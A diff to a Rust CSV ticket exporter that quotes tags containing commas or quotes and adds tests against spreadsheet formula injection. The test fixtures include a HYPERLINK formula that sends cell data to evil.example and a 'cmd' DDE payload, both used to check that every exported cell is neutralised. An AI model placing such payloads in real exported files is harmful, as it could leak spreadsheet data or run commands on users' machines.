@@ -1,5 +1,7 @@
 //! Tickets as rows of a CSV file, which the import also accepts.
 
+use std::borrow::Cow;
+
 use chrono::{DateTime, SecondsFormat, Utc};
 use csv::{Terminator, Writer, WriterBuilder};
 
@@ -94,8 +96,13 @@ fn row(ticket: &Ticket) -> [String; COLUMNS.len()] {
         content.queue.clone(),
         priority(content.priority).to_owned(),
         content.language.to_string(),
-        content.tags.join(","),
+        content.tags.iter().map(|tag| quoted(tag)).collect::<Vec<_>>().join(","),
     ]
+}
+
+/// Quotes a tag with a comma or a quote: the cell of tags is a record of CSV itself.
+fn quoted(tag: &str) -> Cow<'_, str> {
+    if tag.contains([',', '"']) { format!("\"{}\"", tag.replace('"', "\"\"")).into() } else { tag.into() }
 }
 
 fn time(time: DateTime<Utc>) -> String {
@@ -193,9 +200,21 @@ mod tests {
             content(" a  b ", "\r\n one\r\ntwo\rthree\n\n ", &[]),
             content("＝1+1", "＠SUM(A1)\u{2028}；", &["＋", "\u{207a}1"]),
             content("\"", "a,\"b\"\n\"", &["'"]),
+            content("x;=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")", "hello\n=HYPERLINK(1)", &["a;\"=1"]),
+            content("a", "b", &["Smith, John", "c", "\"", "5\" disk", ",", "a\"\",\"b"]),
+            content("x;-2+3+cmd|' /C calc'!A0", "a\t@1\r\n'+1;＝1\n\"-1", &["b;=1", "'"]),
         ];
         let (text, _) = file(&tickets(contents.clone()).chunks(2).map(<[_]>::to_vec).collect::<Vec<_>>());
-        assert!(text.contains("\"'=HYPERLINK(\"\"http://x\"\")\",\"'-1\n@SUM"), "{text}");
+        assert!(text.contains("\"'=HYPERLINK(\"\"http://x\"\")\",\"'-1\n'@SUM"), "{text}");
+        // No spreadsheet finds a formula, by whichever separator it reads the file.
+        for separator in [b',', b';', b'\t'] {
+            let mut rows = csv::ReaderBuilder::new().delimiter(separator).flexible(true).from_reader(text.as_bytes());
+            let cells =
+                rows.records().flat_map(|row| row.expect("UTF-8").iter().map(str::to_owned).collect::<Vec<_>>());
+            let formulas: Vec<_> =
+                cells.filter(|cell| cell.starts_with(['=', '+', '-', '@', '＝', '＋', '＠'])).collect();
+            assert_eq!(formulas, [""; 0], "{}", char::from(separator));
+        }
         let mut read = Vec::new();
         let each = |entry: model::Entry| {
             read.push(entry.row.expect("a good row").content);
